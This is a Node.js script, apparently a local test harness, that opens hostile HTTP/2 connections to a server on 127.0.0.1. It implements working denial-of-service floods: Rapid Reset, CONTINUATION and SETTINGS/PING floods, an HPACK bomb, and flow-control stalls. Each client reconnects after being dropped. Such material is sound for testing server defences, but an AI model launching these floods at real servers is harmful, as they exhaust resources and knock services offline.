// Hostile clients of HTTP/2 in a process of their own: PORT KIND CONNECTIONS [HOST] [RESETS] [tls]; without `tls` with
// prior knowledge.
// They come again as soon as they are thrown out. `rapid-reset` ends after so many RESETS and prints what it saw.
import { connect } from 'node:net';
import { connect as connectTls } from 'node:tls';

const [port, kind, connections, host = 'attacked.test', resets = '0', over = 'tcp'] = process.argv.slice(2);
const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const type = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  goAway: 7,
  window: 8,
  continuation: 9,
};

function frame(kindOf, flags, streamId, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = kindOf;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

function number(value) {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

function text(value) {
  const bytes = Buffer.from(value, 'latin1');
  if (bytes.length < 127) return Buffer.concat([Buffer.of(bytes.length), bytes]);
  const more = [];
  let left = bytes.length - 127;
  for (; left >= 128; left = Math.floor(left / 128)) more.push((left % 128) + 128);
  return Buffer.concat([Buffer.of(127, ...more, left), bytes]);
}

const literal = (name, value) => Buffer.concat([Buffer.of(0), text(name), text(value)]);
/** With incremental indexing: the next block names it by one byte. */
const indexed = (name, value) => Buffer.concat([Buffer.of(0x40), text(name), text(value)]);
const request = (path, method = 'GET') =>
  Buffer.concat([
    literal(':method', method),
    literal(':scheme', over === 'tls' ? 'https' : 'http'),
    literal(':path', path),
    literal(':authority', host),
  ]);
const get = (streamId, path = '/', more = Buffer.alloc(0)) =>
  frame(type.headers, 5, streamId, Buffer.concat([request(path), more]));

const seen = { sent: 0, connections: 0, goAways: 0, answers: 0 };

/** Writes what `next` makes until the connection is over. */
function pour(socket, next) {
  const more = () => {
    while (!socket.destroyed && socket.writable) {
      const bytes = next();
      if (bytes === null) return;
      if (!socket.write(bytes)) return void socket.once('drain', more);
    }
  };
  more();
}

function times(count, make) {
  return Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));
}

function streams(make, count = 50) {
  let streamId = -1;
  return () =>
    times(count, () => {
      streamId += 2;
      return make(streamId);
    });
}

const kinds = {
  // A hundred at a time, and a PING behind them: when it is answered the server has seen them all.
  'rapid-reset': (socket) => {
    let streamId = -1;
    const burst = () => {
      const count = Math.min(100, Number(resets) - seen.sent);
      if (count <= 0) return void socket.end();
      seen.sent += count;
      const pairs = times(count, () => {
        streamId += 2;
        return Buffer.concat([get(streamId), frame(type.reset, 0, streamId, number(8))]);
      });
      if (socket.writable) socket.write(Buffer.concat([pairs, frame(type.ping, 0, 0, Buffer.alloc(8))]));
    };
    socket.answered = burst;
    burst();
  },
  'made-you-reset': (socket) =>
    pour(
      socket,
      streams((id) => Buffer.concat([get(id, '/hold'), frame(type.window, 0, id, number(0))])),
    ),
  'settings-flood': (socket) => pour(socket, () => times(500, () => frame(type.settings, 0, 0))),
  'ping-flood': (socket) => pour(socket, () => times(500, () => frame(type.ping, 0, 0, Buffer.alloc(8)))),
  'window-flood': (socket) => pour(socket, () => times(500, () => frame(type.window, 0, 0, number(1)))),
  'priority-flood': (socket) =>
    pour(socket, () => times(500, (n) => frame(type.priority, 0, 2 * n + 1, Buffer.alloc(5)))),
  'empty-data': (socket) => {
    socket.write(frame(type.headers, 4, 1, request('/digest', 'POST')));
    pour(socket, () => times(500, () => frame(type.data, 0, 1)));
  },
  'tiny-data': (socket) => {
    socket.write(frame(type.headers, 4, 1, request('/digest', 'POST')));
    pour(socket, () => times(500, () => frame(type.data, 0, 1, Buffer.of(120))));
  },
  // Pieces of two streams by turns: none of them stands next to one of its own stream.
  'tiny-data-mixed': (socket) => {
    for (const id of [1, 3]) socket.write(frame(type.headers, 4, id, request('/digest', 'POST')));
    pour(socket, () => times(500, (n) => frame(type.data, 0, 1 + 2 * (n % 2), Buffer.of(120))));
  },
  'ping-ack': (socket) => pour(socket, () => times(500, () => frame(type.ping, 1, 0, Buffer.alloc(8)))),
  'settings-ack': (socket) => pour(socket, () => times(500, () => frame(type.settings, 1, 0))),
  // The server resets the stream; what comes for it afterwards is decoded and thrown away.
  'reset-headers': (socket) => {
    socket.write(
      Buffer.concat([frame(type.headers, 4, 1, request('/hold', 'POST')), frame(type.window, 0, 1, number(0))]),
    );
    const trailers = frame(
      type.headers,
      5,
      1,
      times(40, (n) => literal(`x-${n}`, 'y'.repeat(300))),
    );
    pour(socket, () => trailers);
  },
  continuation: (socket) => {
    socket.write(frame(type.headers, 1, 1, request('/')));
    pour(socket, () => times(100, (n) => frame(type.continuation, 0, 1, literal(`x-${n}`, 'y'.repeat(100)))));
  },
  'hpack-bomb': (socket) => {
    const big = 'b'.repeat(3_900);
    socket.write(get(1, '/', indexed('x-big', big)));
    const references = Buffer.alloc(8_000, 0x80 | 62);
    pour(
      socket,
      (() => {
        let id = 1;
        return () => get((id += 2), '/', references);
      })(),
    );
  },
  // Near-empty entries and crumbs that escape a count, then a window of 0 that holds what they made.
  'cookie-crumbs': (socket) => {
    const crumbs = times(3_000, () => literal('cookie', 'a'));
    pour(
      socket,
      streams((id) => get(id, '/', crumbs), 1),
    );
  },
  // Many large answers that the client has no room for.
  'zero-window': (socket) => {
    socket.write(times(100, (n) => get(2 * n + 1, '/bytes?count=1000000')));
  },
  // The answers come a byte at a time.
  'tiny-window': (socket) => {
    socket.write(times(100, (n) => get(2 * n + 1, '/bytes?count=1000000')));
    const timer = setInterval(() => {
      if (!socket.writable) return clearInterval(timer);
      socket.write(times(100, (n) => frame(type.window, 0, 2 * n + 1, number(1))));
    }, 20);
  },
  // Bodies for an app that never reads them.
  'unread-bodies': (socket) => {
    socket.write(times(100, (n) => frame(type.headers, 4, 2 * n + 1, request('/hold', 'POST'))));
    let n = 0;
    pour(socket, () => {
      n += 1;
      return n > 4_000 ? null : frame(type.data, 0, 2 * (n % 100) + 1, Buffer.alloc(8_000));
    });
  },
  // Answers without a body, never read.
  'unread-answers': (socket) => {
    socket.pause();
    pour(
      socket,
      streams((id) => get(id, '/nothing')),
    );
  },
};

function done() {
  console.log(JSON.stringify(seen));
  process.exit(0);
}

function open() {
  const socket =
    over === 'tls'
      ? connectTls({
          port: Number(port),
          host: '127.0.0.1',
          servername: host,
          ALPNProtocols: ['h2'],
          rejectUnauthorized: false,
        })
      : connect(Number(port), '127.0.0.1');
  let held = Buffer.alloc(0);
  socket.setNoDelay(true);
  socket.on(over === 'tls' ? 'secureConnect' : 'connect', () => {
    seen.connections += 1;
    const window = kind.endsWith('-window') ? Buffer.concat([Buffer.of(0, 4), number(0)]) : Buffer.alloc(0);
    socket.write(Buffer.concat([preface, frame(type.settings, 0, 0, window), frame(type.settings, 1, 0)]));
    kinds[kind](socket);
  });
  socket.on('error', () => undefined);
  socket.on('data', (chunk) => {
    held = Buffer.concat([held, chunk]);
    while (held.length >= 9 && held.length >= 9 + held.readUIntBE(0, 3)) {
      if (held[3] === type.goAway) seen.goAways += 1;
      if (held[3] === type.headers) seen.answers += 1;
      if (held[3] === type.ping && (held[4] & 1) === 1) socket.answered?.();
      held = held.subarray(9 + held.readUIntBE(0, 3));
    }
  });
  socket.on('end', () => socket.destroy());
  socket.on('close', () => {
    if (kind === 'rapid-reset' && seen.sent >= Number(resets)) done();
    else setImmediate(open);
  });
}

for (let n = 0; n < Number(connections); n += 1) open();
// A server that lets all of it pass never closes the connection.
if (kind === 'rapid-reset') {
  let last = -1;
  setInterval(() => {
    if (seen.sent >= Number(resets) && last === seen.answers) done();
    last = seen.answers;
  }, 500);
}
process.on('SIGTERM', done);
